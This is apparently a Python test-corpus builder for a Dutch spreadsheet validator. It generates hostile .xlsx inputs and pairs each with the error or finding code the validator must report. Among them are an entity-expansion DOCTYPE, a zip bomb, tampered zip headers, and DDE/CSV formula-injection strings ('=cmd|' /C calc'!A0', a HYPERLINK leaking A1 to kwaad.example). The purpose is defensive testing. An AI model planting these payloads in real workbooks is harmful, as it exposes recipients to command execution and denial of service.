"""The corpus of bad inputs: files a coordinator may receive by e-mail, each built here from a
valid workbook (never downloaded) with the exact outcome `validate` must give. tests/test_corpus.py
runs validate and merge on every one; `python tests/corpus.py MAP` writes them out to look at.

Outcomes: exit 2 with the start of the Dutch message (the file cannot be used), or exit 1 or 0
with the finding codes (the file is read; what is wrong is named). The mistakes of everyday use
(a renamed sheet, a moved column, a number as text...) are the faults in pa_sheets/faults.py,
with their samples in samples/fouten/; a few of those samples are here written another way
(the same XML, attributes in another order, prefixed elements) and must keep their findings.
"""

import datetime as dt
import random
import re
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from pa_sheets.demo.faults import FAULT_ROW, Book

FOUTEN = Path(__file__).resolve().parent.parent / "samples" / "fouten"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
NOT_XLSX = "dit is geen Excel-werkmap (.xlsx); misschien een ander bestand met een andere extensie."
PDF = "dit is een PDF-bestand, geen werkboek. Sla het op als Excel-werkmap (.xlsx)"
OLD_OR_LOCKED = "dit is een oud Excel-bestand (.xls) of een werkboek met een wachtwoord."
DOCTYPE = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
FORMULA_AFSPRAAK = '=HYPERLINK("http://kwaad.example/","klik")'
HOSTILE_TEXTS = [
    '=HYPERLINK("http://kwaad.example/?"&A1,"Klik hier")',
    "=cmd|' /C calc'!A0",
    "+31 6 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]


@dataclass(frozen=True)
class Case:
    name: str
    what: str
    make: Callable[[Path, Path], None]  # (the valid filled workbook, the file to write)
    exit: int
    expect: str | tuple[str, ...]  # exit 2: start of the message; else the finding codes
    like: str = ""  # a sample in samples/fouten/ whose findings it gives, each on its cell


def rezip(source: Path, target: Path, change: Callable[[str, bytes], bytes | None], extra=()):
    """Copy a workbook part by part; `change` returns new content (None drops the part);
    `extra` adds (name, content) parts."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            content = change(item.filename, old.read(item))
            if content is not None:
                new.writestr(item.filename, content)
        for name, content in extra:
            new.writestr(name, content)


def edited(edit: Callable[[Book], None]) -> Callable[[Path, Path], None]:
    """A maker that edits the workbook with openpyxl, as a spreadsheet user would."""

    def make(source: Path, target: Path) -> None:
        import openpyxl

        book = Book(openpyxl.load_workbook(source))
        edit(book)
        book.workbook.save(target)

    return make


# -- not a workbook ---------------------------------------------------------------------------


def _encrypted(source: Path, target: Path) -> None:
    """What Excel writes for a workbook with a password: an OLE container, not a zip."""
    streams = "EncryptionInfo EncryptedPackage".encode("utf-16-le")
    target.write_bytes(OLE_MAGIC + b"\0" * 504 + streams + b"\0" * 2048)


# -- dangerous --------------------------------------------------------------------------------


def doctype_in(part: str) -> Callable[[Path, Path], None]:
    def make(source: Path, target: Path) -> None:
        def change(name: str, content: bytes) -> bytes:
            if name != part:
                return content
            if content.startswith(b"<?xml"):
                end = content.index(b"?>") + 2
                return content[:end] + DOCTYPE + content[end:]
            return DOCTYPE + content

        rezip(source, target, change)

    return make


def _macro(source: Path, target: Path) -> None:
    rezip(source, target, lambda name, content: content, [("xl/vbaProject.bin", b"\0" * 512)])


def _zip_bomb(source: Path, target: Path) -> None:
    rezip(source, target, lambda name, content: content, [("xl/media/x.bin", b"\0" * 2**28)])


def _external_link(source: Path, target: Path) -> None:
    """A formula source in another workbook, as Excel stores it: a part, its relationship,
    and references from the workbook (pa-sheets reads the target, never opens it)."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = (
        f'<externalLink xmlns="{main}" xmlns:r="{rels}"><externalBook r:id="rId1">'
        '<sheetNames><sheetName val="Blad1"/></sheetNames></externalBook></externalLink>'
    )
    link_rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rels}/externalLinkPath" '
        'Target="file:///C:/Begroting/geheim.xlsx" TargetMode="External"/></Relationships>'
    )

    def change(name: str, content: bytes) -> bytes:
        text = content.decode()
        if name == "xl/_rels/workbook.xml.rels":
            text = text.replace(
                "</Relationships>",
                f'<Relationship Id="rIdExt1" Type="{rels}/externalLink" '
                'Target="externalLinks/externalLink1.xml"/></Relationships>',
            )
        elif name == "xl/workbook.xml":
            text = text.replace(
                "</sheets>",
                '</sheets><externalReferences><externalReference r:id="rIdExt1"/>'
                "</externalReferences>",
            )
        elif name == "[Content_Types].xml":
            text = text.replace(
                "</Types>",
                '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="'
                'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
                "</Types>",
            )
        return text.encode()

    rezip(
        source,
        target,
        change,
        [
            ("xl/externalLinks/externalLink1.xml", link),
            ("xl/externalLinks/_rels/externalLink1.xml.rels", link_rels),
        ],
    )


def _megabyte_text(book: Book) -> None:
    words = ("huur", "woning", "wijk", "buurt", "corporatie", "gemeente", "plan", "jaar")
    text = " ".join(words[(i * 7 + i // 3) % len(words)] + str(i % 97) for i in range(110_000))
    book.new_row("BS Linde", afspraak=text[: 1024 * 1024])


def _formula_injection(book: Book) -> None:
    """New afspraken with hostile text in the toelichting, typed as text, and one live DDE
    formula where the bijdrage goes."""
    for offset, text in enumerate(HOSTILE_TEXTS, start=FAULT_ROW):
        book.new_row("BT Linde", offset=offset, nummer=f"BT-{80 + offset}", toelichting=text)
        cell = book.workbook["BT Linde"][book.cell("BT Linde", "nieuw", "toelichting", offset)]
        cell.data_type = "s"  # openpyxl takes '=...' for a formula; a user typed text
    book.put("BT Linde", "nieuw", "bijdrage", "=cmd|' /C calc'!A0", FAULT_ROW)


# -- hostile containers (issue 16) --------------------------------------------------------------


def patch_member(target: Path, part: str, flags: int = 0, sizes: int | None = None) -> None:
    """Change a member's general purpose flags (or) and, if given, its declared unpacked size,
    in its local header and in the central directory, as a tampered zip has them."""
    data = bytearray(target.read_bytes())
    with zipfile.ZipFile(target) as archive:
        info = archive.getinfo(part)
        start = archive.start_dir
    data[info.header_offset + 6] |= flags  # local header: flags at 6, unpacked size at 22
    if sizes is not None:
        data[info.header_offset + 22 : info.header_offset + 26] = sizes.to_bytes(4, "little")
    at = start
    while data[at : at + 4] == b"PK\x01\x02":  # central directory: flags at 8, size at 24
        length = int.from_bytes(data[at + 28 : at + 30], "little")
        extra = int.from_bytes(data[at + 30 : at + 32], "little")
        comment = int.from_bytes(data[at + 32 : at + 34], "little")
        if data[at + 46 : at + 46 + length].decode() == part:
            data[at + 8] |= flags
            if sizes is not None:
                data[at + 24 : at + 28] = sizes.to_bytes(4, "little")
        at += 46 + length + extra + comment
    target.write_bytes(bytes(data))


def _encrypted_member(source: Path, target: Path) -> None:
    """The "encrypted" flag bit on one part (zipfile raises RuntimeError on reading it)."""
    rezip(source, target, lambda name, content: content)
    patch_member(target, "xl/workbook.xml", flags=0x1)


def _lzma_damaged(source: Path, target: Path) -> None:
    """A part packed with LZMA (which Excel never uses) with damaged properties."""
    rezip(source, target, lambda name, content: content)
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            method = zipfile.ZIP_LZMA if item.filename == "xl/styles.xml" else zipfile.ZIP_DEFLATED
            new.writestr(item.filename, old.read(item), method)
    data = bytearray(target.read_bytes())
    with zipfile.ZipFile(target) as archive:
        info = archive.getinfo("xl/styles.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start + 4 : start + 9] = b"\xff" * 5  # the LZMA properties after its 4-byte header
    target.write_bytes(bytes(data))


def _with_part(part: str, content: bytes) -> Callable[[Path, Path], None]:
    def make(source: Path, target: Path) -> None:
        rezip(source, target, lambda name, old: old, [(part, content)])

    return make


def _ods_with_workbook_xml(source: Path, target: Path) -> None:
    """An OpenDocument spreadsheet with an xl/workbook.xml added."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        new.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        new.writestr("content.xml", "<office:document-content/>")
        new.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
        new.writestr("xl/workbook.xml", old.read("xl/workbook.xml"), zipfile.ZIP_DEFLATED)


def _word_document(source: Path, target: Path) -> None:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        new.writestr("[Content_Types].xml", "<Types/>")
        new.writestr("word/document.xml", "<w:document/>")


def _big_shared_strings(source: Path, target: Path) -> None:
    """40 MB of short shared strings: packs at about 150x, inside the ratio limit (the issue's
    file had 1 GB at 166x); also the same part declaring a small size."""
    unit = b"".join(b"<si><t>%d</t></si>" % (i % 9973) for i in range(10_000))
    count = 40 * 1024 * 1024 // len(unit) + 1
    strings = b'<sst xmlns="x">' + unit * count + b"</sst>"
    rezip(source, target, lambda name, old: old, [("xl/sharedStrings.xml", strings)])


def _lying_shared_strings(source: Path, target: Path) -> None:
    """The same 40 MB part, declaring 1,000 bytes in the zip directory."""
    _big_shared_strings(source, target)
    patch_member(target, "xl/sharedStrings.xml", sizes=1000)


def _big_sheet(source: Path, target: Path) -> None:
    """A worksheet made 40 MB by a comment in it that packs like text (about 2x)."""
    filler = random.Random(16).randbytes(20 * 1024 * 1024).hex().encode()

    def change(name: str, content: bytes) -> bytes:
        if name != "xl/worksheets/sheet2.xml":
            return content
        end = content.index(b"?>") + 2 if content.startswith(b"<?xml") else 0
        return content[:end] + b"<!--" + filler + b"-->" + content[end:]

    rezip(source, target, change)


def _far_cell(source: Path, target: Path) -> None:
    """One cell in the last row and column: a reader that keeps the sheet's area in memory
    asks for 549 GB (calamine aborts the whole process)."""
    far = b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>'

    def change(name: str, content: bytes) -> bytes:
        return (
            content.replace(b"</sheetData>", far) if name == "xl/worksheets/sheet2.xml" else content
        )

    rezip(source, target, change)


def _sheet_elsewhere(source: Path, target: Path) -> None:
    """A worksheet outside xl/worksheets/, where the limits on sheets would not look."""

    def change(name: str, content: bytes) -> bytes | None:
        if name == "xl/worksheets/sheet2.xml":
            return None
        if name == "xl/_rels/workbook.xml.rels":
            return content.replace(b"worksheets/sheet2.xml", b"media/sheet2.xml")
        return content

    with zipfile.ZipFile(source) as old:
        sheet = old.read("xl/worksheets/sheet2.xml")
    rezip(source, target, change, [("xl/media/sheet2.xml", sheet)])


def doctype_after(part: str, offset: int) -> Callable[[Path, Path], None]:
    """A DOCTYPE behind a comment, starting `offset` bytes into the part."""

    def make(source: Path, target: Path) -> None:
        def change(name: str, content: bytes) -> bytes:
            if name != part:
                return content
            end = content.index(b"?>") + 2 if content.startswith(b"<?xml") else 0
            filler = b"<!--" + b"x" * (offset - end - 7) + b"-->"
            return content[:end] + filler + DOCTYPE + content[end:]

        rezip(source, target, change)

    return make


def _formula_in_afspraak(book: Book) -> None:
    """A live formula typed as the afspraak of a new row: reported, and kept in the overview."""
    book.new_row("BS Linde", afspraak="x")
    book.put("BS Linde", "nieuw", "afspraak", FORMULA_AFSPRAAK, FAULT_ROW)


# -- the same sheet, written another way (issue 22) ---------------------------------------------

MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _r_last(sheet: bytes) -> bytes:
    """Every cell's place as its last attribute: <c s="40" r="S23">, the same XML."""
    return re.sub(rb'<c r="([^"]*)"([^>]*?)(/?)>', rb'<c\2 r="\1"\3>', sheet)


def _prefixed(sheet: bytes) -> bytes:
    """Every element of the sheet with the prefix x: for the spreadsheet namespace, as some
    exporters write it (<x:c r="S23"><x:f>...</x:f></x:c>)."""
    sheet = sheet.replace(b'xmlns="' + MAIN + b'"', b'xmlns:x="' + MAIN + b'"', 1)
    return re.sub(rb"<(/?)([A-Za-z_][\w.-]*)(?=[\s/>])", rb"<\1x:\2", sheet)


def rewritten(sample: str, rewrite: Callable[[bytes], bytes]) -> Callable[[Path, Path], None]:
    """A maker that rewrites every worksheet of a sample in samples/fouten/ (not `source`)."""

    def make(source: Path, target: Path) -> None:
        def change(name: str, content: bytes) -> bytes:
            return rewrite(content) if name.startswith("xl/worksheets/") else content

        rezip(FOUTEN / sample, target, change)

    return make


# -- tampered templates ----------------------------------------------------------------------


def _sheets_reordered(book: Book) -> None:
    book.workbook.move_sheet("SW Linde", offset=-12)
    book.workbook.move_sheet("Toelichting", offset=5)


def _meta_removed(book: Book) -> None:
    del book.workbook["_meta"]


def _meta_edited(book: Book) -> None:
    book.workbook["_meta"]["B1"] = "begroting"


def _merged_cells(book: Book) -> None:
    """Cells merged over a new afspraak: only the first keeps its value."""
    start = book.cell("VD Linde", "nieuw", "afspraak", 0)
    end = book.cell("VD Linde", "nieuw", "type", 0)
    book.workbook["VD Linde"].merge_cells(f"{start}:{end}")


def _hidden_rows(book: Book) -> None:
    block = book.block("BT Linde", "going_concern")
    for row in range(block.first_row, block.last_row + 1):
        book.workbook["BT Linde"].row_dimensions[row].hidden = True


def _date_1904(book: Book) -> None:
    """The Mac date system: day 0 is 1 January 1904. A date typed in the planning must still
    be read as the same day."""
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    book.workbook.epoch = CALENDAR_MAC_1904
    book.new_row("BS Linde", planning=dt.datetime(2028, 6, 30))


def _only_spaces(book: Book) -> None:
    book.new_row("AG Linde", afspraak="     ")


CASES = [
    Case("leeg.xlsx", "0 bytes", lambda s, t: t.write_bytes(b""), 2, "het bestand is leeg"),
    Case("csv.xlsx", "CSV met .xlsx", lambda s, t: t.write_text("nummer;afspraak\n"), 2, NOT_XLSX),
    Case("pdf.xlsx", "PDF met .xlsx", lambda s, t: t.write_bytes(b"%PDF-1.7\n%..."), 2, PDF),
    Case(
        "afgebroken.xlsx",
        "half verstuurd",
        lambda s, t: t.write_bytes(s.read_bytes()[:5000]),
        2,
        "het bestand is beschadigd of onvolledig",
    ),
    Case(
        "oud.xls",
        "Excel 97-2003",
        lambda s, t: t.write_bytes(OLE_MAGIC + b"\0" * 2048),
        2,
        OLD_OR_LOCKED,
    ),
    Case("versleuteld.xlsx", "met wachtwoord", _encrypted, 2, OLD_OR_LOCKED),
    Case(
        "zipbom.xlsx",
        "256 MB aan nullen",
        _zip_bomb,
        2,
        "onderdeel xl/media/x.bin pakt verdacht sterk uit",
    ),
    Case(
        "entiteiten-in-blad.xlsx",
        "entiteiten in een werkblad",
        doctype_in("xl/worksheets/sheet2.xml"),
        2,
        "onderdeel xl/worksheets/sheet2.xml bevat een DOCTYPE-declaratie",
    ),
    Case(
        "entiteiten-in-werkboek.xlsx",
        "entiteiten in workbook.xml",
        doctype_in("xl/workbook.xml"),
        2,
        "onderdeel xl/workbook.xml bevat een DOCTYPE-declaratie",
    ),
    Case("macro.xlsm", "met vbaProject", _macro, 2, "het werkboek bevat macro's"),
    Case(
        "onderdeel-versleuteld.xlsx",
        "vlag 'versleuteld' op een onderdeel",
        _encrypted_member,
        2,
        "onderdeel xl/workbook.xml is versleuteld.",
    ),
    Case(
        "lzma-beschadigd.xlsx",
        "onderdeel met LZMA, eigenschappen beschadigd",
        _lzma_damaged,
        2,
        "onderdeel xl/styles.xml is ingepakt op een manier die Excel niet gebruikt",
    ),
    Case(
        "xlsb-met-workbook-xml.xlsb",
        ".xlsb met een xl/workbook.xml erbij",
        _with_part("xl/workbook.bin", b"\x83\x01\x00" * 100),
        2,
        "dit is een binaire Excel-werkmap (.xlsb), geen Excel-werkmap. Sla het op als",
    ),
    Case(
        "ods-met-workbook-xml.ods",
        ".ods met een xl/workbook.xml erbij",
        _ods_with_workbook_xml,
        2,
        "dit is een OpenDocument-bestand (.ods, LibreOffice of OpenOffice), geen Excel-werkmap",
    ),
    Case(
        "word.docx",
        "een Word-document",
        _word_document,
        2,
        "dit is een Word-document (.docx), geen Excel-werkmap. Sla het op als Excel-werkmap",
    ),
    Case(
        "pdf.pdf",
        "een PDF",
        lambda s, t: t.write_bytes(b"%PDF-1.7\n%..."),
        2,
        PDF,
    ),
    Case(
        "werkmap-als.ods",
        "een gewone .xlsx met de naam .ods",
        lambda s, t: t.write_bytes(s.read_bytes()),
        0,
        (),
    ),
    Case(
        "gedeelde-teksten-40-mb.xlsx",
        "40 MB korte teksten, binnen de verhouding ingepakt",
        _big_shared_strings,
        2,
        "onderdeel xl/sharedStrings.xml (de gedeelde teksten) pakt uit tot meer dan 32 MB",
    ),
    Case(
        "gedeelde-teksten-liegen.xlsx",
        "40 MB gedeelde teksten die zeggen 1.000 bytes te zijn",
        _lying_shared_strings,
        2,
        "het bestand is beschadigd of onvolledig",
    ),
    Case(
        "werkblad-40-mb.xlsx",
        "een werkblad van 40 MB",
        _big_sheet,
        2,
        "onderdeel xl/worksheets/sheet2.xml (een werkblad) pakt uit tot meer dan 32 MB",
    ),
    Case(
        "verre-cel.xlsx",
        "één cel in XFD1048576",
        _far_cell,
        2,
        "werkblad xl/worksheets/sheet2.xml reikt tot rij 1.048.576 en kolom 16.384",
    ),
    Case(
        "werkblad-elders.xlsx",
        "een werkblad buiten xl/worksheets/",
        _sheet_elsewhere,
        2,
        "een werkblad staat op een onverwachte plaats (xl/media/sheet2.xml)",
    ),
    Case(
        "doctype-na-3000-bytes.xlsx",
        "DOCTYPE achter een commentaar van 3.000 bytes",
        doctype_after("xl/workbook.xml", 3000),
        2,
        "onderdeel xl/workbook.xml bevat een DOCTYPE-declaratie",
    ),
    Case(
        "doctype-op-de-grens.xlsx",
        "DOCTYPE over de grens van twee stukken van 1 MB",
        doctype_after("xl/worksheets/sheet3.xml", 2**20 - 4),
        2,
        "onderdeel xl/worksheets/sheet3.xml bevat een DOCTYPE-declaratie",
    ),
    Case(
        "externe-koppeling.xlsx", "koppeling naar een ander bestand", _external_link, 1, ("S030",)
    ),
    Case("tekst-van-1-mb.xlsx", "een afspraak van 1 MB", edited(_megabyte_text), 1, ("V005",)),
    Case(
        "formule-injectie.xlsx", "=cmd|, +, -, @ en DDE", edited(_formula_injection), 1, ("V010",)
    ),
    Case(
        "formule-als-afspraak.xlsx",
        "=HYPERLINK(...) als afspraak",
        edited(_formula_in_afspraak),
        1,
        ("V001", "V010"),
    ),
    Case(
        "bladen-verwisseld.xlsx", "tabbladen in andere volgorde", edited(_sheets_reordered), 0, ()
    ),
    Case(
        "meta-verwijderd.xlsx",
        "_meta weggehaald",
        edited(_meta_removed),
        2,
        "geen werkboek van pa-sheets (het verborgen blad _meta ontbreekt)",
    ),
    Case(
        "meta-gewijzigd.xlsx",
        "soort in _meta veranderd",
        edited(_meta_edited),
        2,
        "onbekende soort werkboek 'begroting'",
    ),
    Case(
        "samengevoegde-cellen.xlsx",
        "cellen samengevoegd over een afspraak",
        edited(_merged_cells),
        1,
        ("V001",),
    ),
    Case("verborgen-rijen.xlsx", "rijen verborgen", edited(_hidden_rows), 0, ()),
    Case("datum-1904.xlsx", "datumsysteem 1904 (Mac)", edited(_date_1904), 0, ()),
    Case(
        "alleen-spaties.xlsx", "een afspraak van alleen spaties", edited(_only_spaces), 1, ("V001",)
    ),
    *(
        Case(
            f"{fault}-{how}.xlsx",
            f"{fault}.xlsx met {what}",
            rewritten(f"{fault}.xlsx", rewrite),
            exit,
            (code,),
            like=f"{fault}.xlsx",
        )
        for fault, exit, code in (
            ("formule-in-invoercel", 1, "V010"),
            ("percentage-als-opmaak", 0, "T004"),
        )
        for how, what, rewrite in (
            ("r-achteraan", "de plaats van elke cel achteraan", _r_last),
            ("voorvoegsel", "het voorvoegsel x: voor elk element", _prefixed),
        )
    ),
]


def build(source: Path, folder: Path) -> dict[str, Path]:
    """Write every case into `folder`; return name -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for case in CASES:
        case.make(source, folder / case.name)
        paths[case.name] = folder / case.name
    return paths


if __name__ == "__main__":
    root = Path(__file__).resolve().parent.parent
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else Path("corpus")
    build(root / "samples" / "ingevuld" / "jaarschijf-2027-voorbeeldstad-linde.xlsx", out)
    print(f"{len(CASES)} bestanden in {out}")
